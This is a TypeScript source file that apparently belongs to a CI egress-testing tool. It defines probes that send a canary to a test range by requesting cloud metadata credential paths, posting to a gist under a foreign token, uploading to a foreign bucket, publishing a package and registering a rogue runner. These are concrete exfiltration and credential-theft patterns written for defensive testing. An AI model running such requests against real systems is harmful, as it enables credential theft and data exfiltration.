/**
 * Cloud credentials, and services that a policy allows because jobs need them. What an allowed service takes from whoever
 * has an account there, no firewall of names can refuse: these say so, and are expected to reach.
 */
import { plain, request, secure, toSite } from "../probe/fire.ts";
import type { Fired, Shot, Technique } from "../technique.ts";

const inRange = ["tls-site", "range"] as const;
const allowed =
  "The destination is allowed. Only a rule about methods, paths and owners, which needs TLS inspection, could tell.";

function toAllowed(shot: Shot, method: string, path: string, body: string): Promise<Fired> {
  const headers = { Authorization: "Bearer an-attackers-own-token" };
  return toSite(shot, shot.site.tls, (address, name) =>
    secure(address, 443, name, [request(name, body, { method, path, headers, type: "application/json" })], shot),
  );
}

export const services: readonly Technique[] = [
  {
    id: "metadata-credentials",
    name: "the cloud's metadata service",
    class: "T16",
    attack: ["T1552.005"],
    incidents: [{ name: "Trivy (TeamPCP)", year: 2026 }],
    does: "Asks 169.254.169.254 for the role's credentials; in the range that address is the sink.",
    works: "It is link-local, so rules about the way out do not always see it.",
    expected: "blocked",
    needs: ["range"],
    channel: { kind: "tcp", port: 80 },
    marks: () => "169.254.169.254",
    probe: (shot) => metadata("169.254.169.254", "/latest/meta-data/iam/security-credentials/", shot),
  },
  {
    id: "container-credentials",
    name: "the container's credential endpoint",
    class: "T16",
    attack: ["T1552.005"],
    incidents: [{ name: "Trivy (TeamPCP)", year: 2026 }],
    does: "Asks 169.254.170.2 for the task's credentials; in the range that address is the sink.",
    works: "As above, and fewer people know the address.",
    expected: "blocked",
    needs: ["range"],
    channel: { kind: "tcp", port: 80 },
    marks: () => "169.254.170.2",
    probe: (shot) => metadata("169.254.170.2", "/v2/credentials/", shot),
  },
  {
    id: "code-host-foreign-account",
    name: "a gist or repository in the attacker's account",
    class: "T11",
    attack: ["T1567.001"],
    incidents: [
      { name: "Nx (s1ngularity)", year: 2025 },
      { name: "Shai-Hulud", year: 2025 },
      { name: "Trivy (TeamPCP)", year: 2026 },
    ],
    does: "Posts the canary, in base64, to an API that the policy allows, with a token that is not the job's.",
    works: "The code host's API has to be allowed, and it takes data from anybody.",
    expected: "reached",
    limit: allowed,
    needs: inRange,
    channel: { kind: "tcp", port: 443 },
    probe: (shot) => {
      const content = Buffer.from(shot.canary).toString("base64");
      const files = { "results.b64": { content } };
      return toAllowed(shot, "POST", "/gists", JSON.stringify({ public: true, files }));
    },
  },
  {
    id: "store-foreign-account",
    name: "an upload to the attacker's bucket",
    class: "T12",
    attack: ["T1567.002", "T1537"],
    incidents: [],
    does: "Uploads the canary to a bucket that is not ours at a store that the policy allows.",
    works: "One host serves every tenant's buckets.",
    expected: "reached",
    limit: allowed,
    needs: inRange,
    channel: { kind: "tcp", port: 443 },
    probe: (shot) => toAllowed(shot, "PUT", "/attackers-bucket/loot.tgz", shot.canary),
  },
  {
    id: "registry-publish",
    name: "a package published with a stolen token",
    class: "T19",
    attack: ["T1195.002", "T1567"],
    incidents: [
      { name: "Shai-Hulud", year: 2025 },
      { name: "Ultralytics", year: 2024 },
    ],
    does: "Puts a package whose description is the canary to a registry that the policy allows.",
    works: "A job that installs has to reach the registry, and the registry takes packages at the same host.",
    expected: "reached",
    limit: allowed,
    needs: inRange,
    channel: { kind: "tcp", port: 443 },
    probe: (shot) =>
      toAllowed(shot, "PUT", "/left-behind", JSON.stringify({ name: "left-behind", description: shot.canary })),
  },
  {
    id: "rogue-runner",
    name: "registration of a rogue runner",
    class: "T23",
    attack: ["T1219", "T1543"],
    incidents: [{ name: "Shai-Hulud 2.0", year: 2025 }],
    does: "Registers a self-hosted runner, named by the canary, at the code host that the policy allows.",
    works: "Commands then come from the code host itself.",
    expected: "reached",
    limit: `${allowed} Watch the list of runners at the code host.`,
    needs: inRange,
    channel: { kind: "tcp", port: 443 },
    probe: (shot) =>
      toAllowed(shot, "POST", "/actions/runner-registration", JSON.stringify({ runner: `SHA1-${shot.canary}` })),
  },
];

function metadata(address: string, path: string, shot: Shot): Promise<Fired> {
  return plain(
    address,
    80,
    [request(address, "", { method: "GET", path, headers: { "X-Canary": shot.canary } })],
    shot,
  );
}
